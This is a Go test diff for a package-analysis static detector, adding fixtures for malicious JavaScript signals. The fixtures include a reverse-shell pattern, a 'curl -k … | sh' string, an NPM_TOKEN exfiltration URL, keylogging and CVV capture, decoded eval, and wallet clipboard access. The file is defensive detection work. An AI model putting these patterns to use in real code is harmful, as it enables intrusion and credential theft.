@@ -5,6 +5,7 @@ import (
 	"testing"
 
 	"github.com/ossf/package-analysis/internal/staticanalysis/parsing"
+	"github.com/ossf/package-analysis/internal/staticanalysis/signals/detections"
 	"github.com/ossf/package-analysis/pkg/api/staticanalysis"
 	"github.com/ossf/package-analysis/pkg/api/staticanalysis/token"
 	"github.com/ossf/package-analysis/pkg/valuecounts"
@@ -18,18 +19,9 @@ type fileSignalsTestCase struct {
 
 var fileSignalsTestCases = []fileSignalsTestCase{
 	{
-		name:      "empty",
-		parseData: parsing.SingleResult{},
-		expectedSignals: FileSignals{
-			StringLengths:         valuecounts.New(),
-			IdentifierLengths:     valuecounts.New(),
-			SuspiciousIdentifiers: []staticanalysis.SuspiciousIdentifier{},
-			EscapedStrings:        []staticanalysis.EscapedString{},
-			Base64Strings:         []string{},
-			HexStrings:            []string{},
-			IPAddresses:           []string{},
-			URLs:                  []string{},
-		},
+		name:            "empty",
+		parseData:       parsing.SingleResult{},
+		expectedSignals: FileSignals{},
 	},
 	{
 		name: "simple 1",
@@ -47,11 +39,6 @@ var fileSignalsTestCases = []fileSignalsTestCase{
 			StringLengths:         valuecounts.Count([]int{5}),
 			IdentifierLengths:     valuecounts.Count([]int{1}),
 			SuspiciousIdentifiers: []staticanalysis.SuspiciousIdentifier{{Name: "a", Rule: "single"}},
-			EscapedStrings:        []staticanalysis.EscapedString{},
-			Base64Strings:         []string{},
-			HexStrings:            []string{},
-			IPAddresses:           []string{},
-			URLs:                  []string{},
 		},
 	},
 	{
@@ -82,11 +69,6 @@ var fileSignalsTestCases = []fileSignalsTestCase{
 				{Name: "b", Rule: "single"},
 				{Name: "c", Rule: "single"},
 			},
-			EscapedStrings: []staticanalysis.EscapedString{},
-			Base64Strings:  []string{},
-			HexStrings:     []string{},
-			IPAddresses:    []string{},
-			URLs:           []string{},
 		},
 	},
 	{
@@ -116,11 +98,10 @@ var fileSignalsTestCases = []fileSignalsTestCase{
 				{Name: "a", Rule: "single"},
 				{Name: "d1912931", Rule: "numeric"},
 			},
-			EscapedStrings: []staticanalysis.EscapedString{},
-			Base64Strings:  []string{"aGVsbG8gd29ybGQK"},
-			HexStrings:     []string{"21323492394"},
-			IPAddresses:    []string{"8.8.8.8", "e3fc:234a:2341::abcd"},
-			URLs:           []string{"https://this.is.a.website.com"},
+			Base64Strings: []string{"aGVsbG8gd29ybGQK"},
+			HexStrings:    []string{"21323492394"},
+			IPAddresses:   []string{"8.8.8.8", "e3fc:234a:2341::abcd"},
+			URLs:          []string{"https://this.is.a.website.com"},
 		},
 	},
 	{
@@ -134,13 +115,7 @@ var fileSignalsTestCases = []fileSignalsTestCase{
 			},
 		},
 		expectedSignals: FileSignals{
-			StringLengths:         valuecounts.Count([]int{5, 5, 5, 5}),
-			IdentifierLengths:     valuecounts.New(),
-			SuspiciousIdentifiers: []staticanalysis.SuspiciousIdentifier{},
-			Base64Strings:         []string{},
-			HexStrings:            []string{},
-			IPAddresses:           []string{},
-			URLs:                  []string{},
+			StringLengths: valuecounts.Count([]int{5, 5, 5, 5}),
 			EscapedStrings: []staticanalysis.EscapedString{
 				{Value: "@ABCD", Raw: "\\100\\101\\102\\103\\104", LevenshteinDist: 25},
 				{Value: "@ABCD", Raw: "\\x40\\x41\\x42\\x43\\x44", LevenshteinDist: 25},
@@ -149,15 +124,442 @@ var fileSignalsTestCases = []fileSignalsTestCase{
 			},
 		},
 	},
+	{
+		name: "indirect eval",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "eval", Args: []token.CallArg{{Type: "Identifier", Value: "x"}}, Pos: token.Position{1, 0}},
+				{Callee: "this.eval", Computed: true, Args: []token.CallArg{{Type: "Identifier", Value: "x"}}, Pos: token.Position{2, 0}},
+				{Callee: "eval", Indirect: true, Args: []token.CallArg{{Type: "Identifier", Value: "x"}}, Pos: token.Position{3, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			IndirectEvals: []staticanalysis.IndirectEval{
+				{Target: "eval", Callee: "this.eval", Pos: token.Position{2, 0}},
+				{Target: "eval", Callee: "eval", Pos: token.Position{3, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleIndirectEval, Category: staticanalysis.CategoryObfuscation, Severity: staticanalysis.SeverityMedium, Message: "indirect call to eval (this.eval)", Pos: token.Position{2, 0}},
+				{Rule: RuleIndirectEval, Category: staticanalysis.CategoryObfuscation, Severity: staticanalysis.SeverityMedium, Message: "indirect call to eval (eval)", Pos: token.Position{3, 0}},
+			},
+		},
+	},
+	{
+		name: "webassembly",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "WebAssembly.instantiate", Args: []token.CallArg{{Type: "Call", Value: "Buffer.from"}}, Pos: token.Position{1, 0}},
+				{Callee: "WebAssembly.Module", New: true, Args: []token.CallArg{{Type: "Identifier", Value: "bytes"}}, Pos: token.Position{2, 0}},
+				{Callee: "console.log", Args: []token.CallArg{{Type: "String", Value: "WebAssembly.instantiate"}}, Pos: token.Position{3, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			WasmInstantiations: []staticanalysis.WasmInstantiation{
+				{Function: "instantiate", Source: "inline", Pos: token.Position{1, 0}},
+				{Function: "Module", Source: "unknown", Pos: token.Position{2, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleWasmInstantiation, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityLow, Message: "WebAssembly.instantiate of a module from inline source", Pos: token.Position{1, 0}},
+				{Rule: RuleWasmInstantiation, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityLow, Message: "WebAssembly.Module of a module from unknown source", Pos: token.Position{2, 0}},
+			},
+		},
+	},
+	{
+		name: "long delays",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "setTimeout", Args: []token.CallArg{{Type: "Function", Value: ""}, {Type: "Numeric", Value: "1800000"}}, Pos: token.Position{1, 0}},
+				{Callee: "setTimeout", Args: []token.CallArg{{Type: "Function", Value: ""}, {Type: "Numeric", Value: "100"}}, Pos: token.Position{2, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			LongDelays: []staticanalysis.LongDelay{
+				{Function: "setTimeout", DelayMs: 1800000, Pos: token.Position{1, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleLongDelay, Category: staticanalysis.CategoryEvasion, Severity: staticanalysis.SeverityLow, Message: "setTimeout with a delay of 30m0s", Pos: token.Position{1, 0}},
+			},
+		},
+	},
+	{
+		name: "wallet addresses and clipboard access",
+		parseData: parsing.SingleResult{
+			StringLiterals: []token.String{
+				{Value: "0x52908400098527886E0F7030069857D2E4169EE7", Raw: `"0x52908400098527886E0F7030069857D2E4169EE7"`, Pos: token.Position{1, 10}},
+			},
+			Calls: []token.Call{
+				{Callee: "navigator.clipboard.writeText", Args: []token.CallArg{{Type: "Identifier", Value: "address"}}, Pos: token.Position{2, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			StringLengths: valuecounts.Count([]int{42}),
+			Base64Strings: []string{"0x52908400098527886E0F7030069857D2E4169EE7"},
+			HexStrings:    []string{"52908400098527886E0F7030069857D2E4169EE7"},
+			WalletAddresses: []staticanalysis.WalletAddress{
+				{Currency: "ethereum", Address: "0x52908400098527886E0F7030069857D2E4169EE7", Pos: token.Position{1, 10}},
+			},
+			ClipboardAccesses: []staticanalysis.ClipboardAccess{
+				{API: "navigator.clipboard.writeText", Pos: token.Position{2, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleWalletAddress, Category: staticanalysis.CategoryCredentialTheft, Severity: staticanalysis.SeverityMedium, Message: "ethereum wallet address 0x52908400098527886E0F7030069857D2E4169EE7", Pos: token.Position{1, 10}},
+				{Rule: RuleClipboardAccess, Category: staticanalysis.CategoryCredentialTheft, Severity: staticanalysis.SeverityLow, Message: "clipboard access with navigator.clipboard.writeText", Pos: token.Position{2, 0}},
+			},
+		},
+	},
+	{
+		name: "reverse shell",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "net.connect", Args: []token.CallArg{{Type: "Numeric", Value: "4444"}, {Type: "String", Value: "10.0.0.1"}}, Pos: token.Position{1, 15}},
+				{Callee: "child_process.spawn", Args: []token.CallArg{{Type: "String", Value: "/bin/bash"}, {Type: "Array", Value: ""}}, Pos: token.Position{2, 11}},
+				{Callee: "sh.stdout.pipe", Args: []token.CallArg{{Type: "Identifier", Value: "client"}}, Pos: token.Position{3, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			ReverseShells: []staticanalysis.ReverseShell{
+				{Shell: "bash", SocketCallee: "net.connect", SocketPos: token.Position{1, 15}, ShellCallee: "child_process.spawn", Pos: token.Position{2, 11}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleReverseShell, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityMedium, Message: "bash run by child_process.spawn in a file which connects a socket from net.connect and pipes the output of a process", Pos: token.Position{2, 11}},
+			},
+		},
+	},
+	{
+		name: "insecure transport",
+		parseData: parsing.SingleResult{
+			StringLiterals: []token.String{
+				{Value: "curl -k https://example.com/x | sh", Raw: `"curl -k https://example.com/x | sh"`, Pos: token.Position{3, 5}},
+			},
+			Calls: []token.Call{
+				{Callee: "fetch", Args: []token.CallArg{{Type: "String", Value: "http://example.com/x"}}, Pos: token.Position{2, 0}},
+			},
+			Assignments: []token.Assignment{
+				{Target: "rejectUnauthorized", Value: token.CallArg{Type: "Boolean", Value: "false"}, Pos: token.Position{1, 10}},
+			},
+		},
+		expectedSignals: FileSignals{
+			StringLengths: valuecounts.Count([]int{34}),
+			URLs:          []string{"https://example.com/x"},
+			InsecureTransport: []staticanalysis.InsecureTransport{
+				{Type: "tls_verification_disabled", Detail: "curl -k", Pos: token.Position{3, 5}},
+				{Type: "plain_http", Detail: "http://example.com/x", Pos: token.Position{2, 0}},
+				{Type: "tls_verification_disabled", Detail: "rejectUnauthorized=false", Pos: token.Position{1, 10}},
+			},
+			NetworkRequests: []staticanalysis.NetworkRequest{
+				{API: "fetch", URL: "http://example.com/x", URLSource: "static", Pos: token.Position{2, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleInsecureTransport, Category: staticanalysis.CategoryNetwork, Severity: staticanalysis.SeverityMedium, Message: "TLS certificate verification disabled by rejectUnauthorized=false", Pos: token.Position{1, 10}},
+				{Rule: RuleInsecureTransport, Category: staticanalysis.CategoryNetwork, Severity: staticanalysis.SeverityLow, Message: "plain HTTP request to http://example.com/x", Pos: token.Position{2, 0}},
+				{Rule: RuleNetworkRequest, Category: staticanalysis.CategoryNetwork, Severity: staticanalysis.SeverityInfo, Message: "request with fetch to http://example.com/x", Pos: token.Position{2, 0}},
+				{Rule: RuleInsecureTransport, Category: staticanalysis.CategoryNetwork, Severity: staticanalysis.SeverityMedium, Message: "TLS certificate verification disabled by curl -k", Pos: token.Position{3, 5}},
+			},
+		},
+	},
+	{
+		name: "internal APIs",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "require", Args: []token.CallArg{{Type: "String", Value: "node:inspector"}}, Pos: token.Position{1, 0}},
+				{Callee: "process.binding", Args: []token.CallArg{{Type: "String", Value: "spawn_sync"}}, Pos: token.Position{2, 0}},
+			},
+			Assignments: []token.Assignment{
+				{Target: "process.env.NODE_OPTIONS", Member: true, Value: token.CallArg{Type: "String", Value: "--inspect"}, Pos: token.Position{3, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			InternalAPIUsages: []staticanalysis.InternalAPIUsage{
+				{Type: "inspector", API: `require("node:inspector")`, Pos: token.Position{1, 0}},
+				{Type: "internal_binding", API: "process.binding", Pos: token.Position{2, 0}},
+				{Type: "debugger_activation", API: "NODE_OPTIONS=--inspect", Pos: token.Position{3, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleInternalAPIUsage, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityMedium, Message: "inspector: require(\"node:inspector\")", Pos: token.Position{1, 0}},
+				{Rule: RuleInternalAPIUsage, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityMedium, Message: "internal binding: process.binding", Pos: token.Position{2, 0}},
+				{Rule: RuleInternalAPIUsage, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityMedium, Message: "debugger activation: NODE_OPTIONS=--inspect", Pos: token.Position{3, 0}},
+			},
+		},
+	},
+	{
+		name: "network requests",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "https.get", Args: []token.CallArg{{Type: "Concatenation", Value: "https://${host}/?t=${process.env.NPM_TOKEN}"}, {Type: "Function"}}, Pos: token.Position{1, 0}},
+				{Callee: "axios.post", Args: []token.CallArg{{Type: "Identifier", Value: "endpoint"}, {Type: "Object"}}, Pos: token.Position{2, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			NetworkRequests: []staticanalysis.NetworkRequest{
+				{API: "https.get", URL: "https://${host}/?t=${process.env.NPM_TOKEN}", URLSource: "environment", Pos: token.Position{1, 0}},
+				{API: "axios.post", URL: "${endpoint}", URLSource: "dynamic", Pos: token.Position{2, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleNetworkRequest, Category: staticanalysis.CategoryNetwork, Severity: staticanalysis.SeverityMedium, Message: "request with https.get to a URL from the environment", Pos: token.Position{1, 0}},
+				{Rule: RuleNetworkRequest, Category: staticanalysis.CategoryNetwork, Severity: staticanalysis.SeverityLow, Message: "request with axios.post to a URL built at runtime", Pos: token.Position{2, 0}},
+			},
+		},
+	},
+	{
+		name: "platform conditions",
+		parseData: parsing.SingleResult{
+			Conditions: []token.Condition{
+				{Subject: "process.platform", Operator: "===", Value: "win32", GatedLength: 2400, Pos: token.Position{1, 4}},
+				{Subject: "os.type()", Operator: "case", Value: "Darwin", GatedLength: 12, Pos: token.Position{5, 0}},
+				{Subject: "device.platform()", Operator: "===", Value: "ios", GatedLength: 300, Pos: token.Position{9, 4}},
+			},
+		},
+		expectedSignals: FileSignals{
+			PlatformConditions: []staticanalysis.PlatformCondition{
+				{Platform: "win32", Subject: "process.platform", Operator: "===", GatedLength: 2400, Significant: true, Pos: token.Position{1, 4}},
+				{Platform: "darwin", Subject: "os.type()", Operator: "case", GatedLength: 12, Pos: token.Position{5, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RulePlatformCondition, Category: staticanalysis.CategoryEvasion, Severity: staticanalysis.SeverityLow, Message: "code gated on process.platform being win32", Pos: token.Position{1, 4}},
+				{Rule: RulePlatformCondition, Category: staticanalysis.CategoryEvasion, Severity: staticanalysis.SeverityInfo, Message: "code gated on os.type() being darwin", Pos: token.Position{5, 0}},
+			},
+		},
+	},
+	{
+		name: "early exits",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "process.exit", Unconditional: true, Args: []token.CallArg{{Type: "Numeric", Value: "0"}}, Pos: token.Position{2, 0}},
+				{Callee: "process.exit", Args: []token.CallArg{{Type: "Numeric", Value: "1"}}, Pos: token.Position{4, 4}},
+			},
+		},
+		expectedSignals: FileSignals{
+			EarlyExits: []staticanalysis.EarlyExit{
+				{Function: "process.exit", Pos: token.Position{2, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleEarlyExit, Category: staticanalysis.CategoryEvasion, Severity: staticanalysis.SeverityInfo, Message: "process ended by process.exit", Pos: token.Position{2, 0}},
+			},
+		},
+	},
+	{
+		name: "input capture",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "document.addEventListener", Args: []token.CallArg{{Type: "String", Value: "keydown"}, {Type: "Function"}}, Pos: token.Position{1, 0}},
+				{Callee: "document.querySelector", Args: []token.CallArg{{Type: "String", Value: "input[name=cvv]"}}, Pos: token.Position{2, 10}},
+				{Callee: "navigator.sendBeacon", Args: []token.CallArg{{Type: "Identifier", Value: "url"}, {Type: "Identifier", Value: "keys"}}, Pos: token.Position{3, 2}},
+			},
+			Assignments: []token.Assignment{
+				{Target: "document.onkeypress", Member: true, Value: token.CallArg{Type: "Identifier", Value: "log"}, Pos: token.Position{4, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			InputCaptures: []staticanalysis.InputCapture{
+				{Type: detections.InputListener, API: "document.addEventListener", Event: "keydown", NetworkSend: true, Pos: token.Position{1, 0}},
+				{Type: detections.FormAccess, API: `document.querySelector("input[name=cvv]")`, NetworkSend: true, Pos: token.Position{2, 10}},
+				{Type: detections.InputListener, API: "document.onkeypress", Event: "keypress", NetworkSend: true, Pos: token.Position{4, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleInputCapture, Category: staticanalysis.CategoryCredentialTheft, Severity: staticanalysis.SeverityMedium, Message: "user input captured with document.addEventListener(\"keydown\"), in a file that sends data over the network", Pos: token.Position{1, 0}},
+				{Rule: RuleInputCapture, Category: staticanalysis.CategoryCredentialTheft, Severity: staticanalysis.SeverityMedium, Message: "user input captured with document.querySelector(\"input[name=cvv]\"), in a file that sends data over the network", Pos: token.Position{2, 10}},
+				{Rule: RuleInputCapture, Category: staticanalysis.CategoryCredentialTheft, Severity: staticanalysis.SeverityMedium, Message: "user input captured with document.onkeypress(\"keypress\"), in a file that sends data over the network", Pos: token.Position{4, 0}},
+			},
+		},
+	},
+	{
+		name: "timing checks",
+		parseData: parsing.SingleResult{
+			TimingChecks: []token.TimingCheck{
+				{API: "performance.now", StartPos: token.Position{2, 18}, EndPos: token.Position{4, 8}, GatedLength: 40, Pos: token.Position{4, 8}},
+			},
+		},
+		expectedSignals: FileSignals{
+			TimingChecks: []staticanalysis.TimingCheck{
+				{API: "performance.now", StartPos: token.Position{2, 18}, EndPos: token.Position{4, 8}, GatedLength: 40, Pos: token.Position{4, 8}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleTimingCheck, Category: staticanalysis.CategoryEvasion, Severity: staticanalysis.SeverityLow, Message: "time taken measured with performance.now to choose what to run next", Pos: token.Position{4, 8}},
+			},
+		},
+	},
+	{
+		name: "packed code",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "eval", Unconditional: true, Args: []token.CallArg{{Type: "Call"}}, Pos: token.Position{1, 0}},
+				{Callee: "c.toString", Args: []token.CallArg{{Type: "Numeric", Value: "36"}}, Pos: token.Position{1, 40}},
+				{Callee: "RegExp", New: true, Args: []token.CallArg{{Type: "Concatenation", Value: `\b${e()}\b`}, {Type: "String", Value: "g"}}, Pos: token.Position{1, 200}},
+			},
+		},
+		expectedSignals: FileSignals{
+			PackedCode: []staticanalysis.PackedCode{
+				{Confidence: detections.PackedConfidenceHigh, Indicators: []string{detections.PackedEval, detections.PackedStringBuilding}, Pos: token.Position{1, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RulePackedCode, Category: staticanalysis.CategoryObfuscation, Severity: staticanalysis.SeverityHigh, Message: "packed code with high confidence (eval, string_building)", Pos: token.Position{1, 0}},
+			},
+		},
+	},
+	{
+		name: "thread usages",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "require", Args: []token.CallArg{{Type: "String", Value: "worker_threads"}}, Pos: token.Position{1, 0}},
+				{Callee: "Worker", New: true, Args: []token.CallArg{{Type: "Identifier", Value: "payload"}, {Type: "Object"}}, Pos: token.Position{2, 0}},
+				{Callee: "SharedArrayBuffer", New: true, Args: []token.CallArg{{Type: "Numeric", Value: "4"}}, Pos: token.Position{3, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			ThreadUsages: []staticanalysis.ThreadUsage{
+				{Type: detections.ThreadWorkerThreads, API: "worker_threads", Pos: token.Position{1, 0}},
+				{Type: detections.ThreadWorker, API: "Worker", WorkerSource: detections.WorkerSourceDynamic, Pos: token.Position{2, 0}},
+				{Type: detections.ThreadSharedMemory, API: "SharedArrayBuffer", Pos: token.Position{3, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleThreadUsage, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityInfo, Message: "import of worker_threads", Pos: token.Position{1, 0}},
+				{Rule: RuleThreadUsage, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityMedium, Message: "thread started with Worker from dynamic code", Pos: token.Position{2, 0}},
+				{Rule: RuleThreadUsage, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityLow, Message: "memory shared between threads with SharedArrayBuffer", Pos: token.Position{3, 0}},
+			},
+		},
+	},
+	{
+		name: "decoded executions",
+		parseData: parsing.SingleResult{
+			DecodedExecutions: []token.DecodedExecution{
+				{Sink: "eval", Decoder: "atob", Encoding: "base64", DecodePos: token.Position{1, 5}, Pos: token.Position{1, 0}},
+				{Sink: "Function", Decoder: "Buffer.from", Encoding: "hex", Variable: "code", DecodePos: token.Position{3, 17}, Pos: token.Position{4, 11}},
+			},
+		},
+		expectedSignals: FileSignals{
+			DecodedExecutions: []staticanalysis.DecodedExecution{
+				{Sink: "eval", Decoder: "atob", Encoding: "base64", DecodePos: token.Position{1, 5}, Pos: token.Position{1, 0}},
+				{Sink: "Function", Decoder: "Buffer.from", Encoding: "hex", Variable: "code", DecodePos: token.Position{3, 17}, Pos: token.Position{4, 11}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleDecodedExecution, Category: staticanalysis.CategoryObfuscation, Severity: staticanalysis.SeverityHigh, Message: "eval of code decoded from base64 with atob", Pos: token.Position{1, 0}},
+				{Rule: RuleDecodedExecution, Category: staticanalysis.CategoryObfuscation, Severity: staticanalysis.SeverityHigh, Message: "Function of code decoded from hex with Buffer.from (through code)", Pos: token.Position{4, 11}},
+			},
+		},
+	},
+	{
+		name: "outside imports",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "require", Args: []token.CallArg{{Type: "String", Value: "./lib"}}, Pos: token.Position{1, 0}},
+				{Callee: "require", Args: []token.CallArg{{Type: "String", Value: "../other-package/secrets.js"}}, Pos: token.Position{2, 0}},
+				{Callee: "import", Args: []token.CallArg{{Type: "String", Value: "/usr/lib/node_modules/npm/lib/npm.js"}}, Pos: token.Position{3, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			OutsideImports: []staticanalysis.OutsideImport{
+				{Module: "../other-package/secrets.js", Pos: token.Position{2, 0}},
+				{Module: "/usr/lib/node_modules/npm/lib/npm.js", Pos: token.Position{3, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleOutsideImport, Category: staticanalysis.CategoryFilesystem, Severity: staticanalysis.SeverityMedium, Message: "import of ../other-package/secrets.js, outside the package", Pos: token.Position{2, 0}},
+				{Rule: RuleOutsideImport, Category: staticanalysis.CategoryFilesystem, Severity: staticanalysis.SeverityMedium, Message: "import of /usr/lib/node_modules/npm/lib/npm.js, outside the package", Pos: token.Position{3, 0}},
+			},
+		},
+	},
+	{
+		name: "native addon loads",
+		parseData: parsing.SingleResult{
+			Calls: []token.Call{
+				{Callee: "require", Args: []token.CallArg{{Type: "String", Value: "./build/Release/addon.node"}}, Pos: token.Position{1, 0}},
+				{Callee: "require", Args: []token.CallArg{{Type: "String", Value: "bindings"}}, Pos: token.Position{2, 0}},
+				{Callee: "process.dlopen", Args: []token.CallArg{{Type: "Identifier", Value: "module"}, {Type: "String", Value: "/tmp/.x/lib.so"}}, Pos: token.Position{3, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			NativeAddonLoads: []staticanalysis.NativeAddonLoad{
+				{Type: detections.NativeAddonRequire, Library: "./build/Release/addon.node", Pos: token.Position{1, 0}},
+				{Type: detections.NativeAddonLoader, Library: "bindings", Pos: token.Position{2, 0}},
+				{Type: detections.NativeAddonDlopen, Library: "/tmp/.x/lib.so", Pos: token.Position{3, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleNativeAddonLoad, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityHigh, Message: "native library ./build/Release/addon.node loaded with require", Pos: token.Position{1, 0}},
+				{Rule: RuleNativeAddonLoad, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityHigh, Message: "native addon loaded with bindings", Pos: token.Position{2, 0}},
+				{Rule: RuleNativeAddonLoad, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityHigh, Message: "native library /tmp/.x/lib.so loaded with dlopen", Pos: token.Position{3, 0}},
+			},
+		},
+	},
+	{
+		name: "import declarations",
+		parseData: parsing.SingleResult{
+			Imports: []token.Import{
+				{Module: "node:inspector", Pos: token.Position{1, 0}},
+				{Module: "worker_threads", Pos: token.Position{2, 0}},
+				{Module: "../other-package/secrets.js", Export: true, Pos: token.Position{3, 0}},
+				{Module: "./build/Release/addon.node", Pos: token.Position{4, 0}},
+				{Module: "lodash", Pos: token.Position{5, 0}},
+			},
+		},
+		expectedSignals: FileSignals{
+			InternalAPIUsages: []staticanalysis.InternalAPIUsage{
+				{Type: detections.Inspector, API: `import "node:inspector"`, Pos: token.Position{1, 0}},
+			},
+			ThreadUsages: []staticanalysis.ThreadUsage{
+				{Type: detections.ThreadWorkerThreads, API: "worker_threads", Pos: token.Position{2, 0}},
+			},
+			OutsideImports: []staticanalysis.OutsideImport{
+				{Module: "../other-package/secrets.js", Pos: token.Position{3, 0}},
+			},
+			NativeAddonLoads: []staticanalysis.NativeAddonLoad{
+				{Type: detections.NativeAddonRequire, Library: "./build/Release/addon.node", Pos: token.Position{4, 0}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleInternalAPIUsage, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityMedium, Message: `inspector: import "node:inspector"`, Pos: token.Position{1, 0}},
+				{Rule: RuleThreadUsage, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityInfo, Message: "import of worker_threads", Pos: token.Position{2, 0}},
+				{Rule: RuleOutsideImport, Category: staticanalysis.CategoryFilesystem, Severity: staticanalysis.SeverityMedium, Message: "import of ../other-package/secrets.js, outside the package", Pos: token.Position{3, 0}},
+				{Rule: RuleNativeAddonLoad, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityHigh, Message: "native library ./build/Release/addon.node loaded with require", Pos: token.Position{4, 0}},
+			},
+		},
+	},
+	{
+		name: "binary payloads",
+		parseData: parsing.SingleResult{
+			BinaryPayloads: []token.BinaryPayload{
+				{Constructor: "Uint8Array", Size: 80, Sink: "fs.writeFileSync", Pos: token.Position{1, 11}},
+				{Constructor: "Buffer.alloc", Size: 600, Writes: true, Pos: token.Position{3, 12}},
+				{Constructor: "Uint8Array.of", Size: 100, Sink: "WebAssembly.instantiate", Pos: token.Position{9, 24}},
+			},
+		},
+		expectedSignals: FileSignals{
+			BinaryPayloads: []staticanalysis.BinaryPayload{
+				{Constructor: "Uint8Array", Size: 80, Sink: "fs.writeFileSync", Pos: token.Position{1, 11}},
+				{Constructor: "Buffer.alloc", Size: 600, Writes: true, Pos: token.Position{3, 12}},
+				{Constructor: "Uint8Array.of", Size: 100, Sink: "WebAssembly.instantiate", Pos: token.Position{9, 24}},
+			},
+			Findings: []staticanalysis.Finding{
+				{Rule: RuleBinaryPayload, Category: staticanalysis.CategoryObfuscation, Severity: staticanalysis.SeverityHigh, Message: "80 bytes of literal data in Uint8Array, written to a file with fs.writeFileSync", Pos: token.Position{1, 11}},
+				{Rule: RuleBinaryPayload, Category: staticanalysis.CategoryObfuscation, Severity: staticanalysis.SeverityLow, Message: "600 bytes written one at a time into Buffer.alloc", Pos: token.Position{3, 12}},
+				{Rule: RuleBinaryPayload, Category: staticanalysis.CategoryObfuscation, Severity: staticanalysis.SeverityMedium, Message: "100 bytes of literal data in Uint8Array.of, compiled with WebAssembly.instantiate", Pos: token.Position{9, 24}},
+			},
+		},
+	},
+}
+
+// withEmptyFields returns s with each of its nil slices, and zero value counts, set
+// to empty ones. This lets test cases list only the fields they are about, while
+// the signals of AnalyzeSingle must still have empty rather than nil fields, so
+// that they serialize as empty lists.
+func withEmptyFields(s FileSignals) FileSignals {
+	v := reflect.ValueOf(&s).Elem()
+	for i := 0; i < v.NumField(); i++ {
+		f := v.Field(i)
+		switch {
+		case f.Kind() == reflect.Slice && f.IsNil():
+			f.Set(reflect.MakeSlice(f.Type(), 0, 0))
+		case f.Type() == reflect.TypeOf(valuecounts.ValueCounts{}) && f.IsZero():
+			f.Set(reflect.ValueOf(valuecounts.New()))
+		}
+	}
+	return s
 }
 
 func TestComputeSignals(t *testing.T) {
 	for _, test := range fileSignalsTestCases {
 		t.Run(test.name, func(t *testing.T) {
-			signals := AnalyzeSingle(test.parseData)
-			if !reflect.DeepEqual(signals, test.expectedSignals) {
+			signals := AnalyzeSingle(test.parseData, "index.js")
+			if want := withEmptyFields(test.expectedSignals); !reflect.DeepEqual(signals, want) {
 				t.Errorf("actual signals did not match expected\n"+
-					"== want ==\n%v\n== got ==\n%#v\n======", test.expectedSignals, signals)
+					"== want ==\n%v\n== got ==\n%#v\n======", want, signals)
 			}
 		})
 	}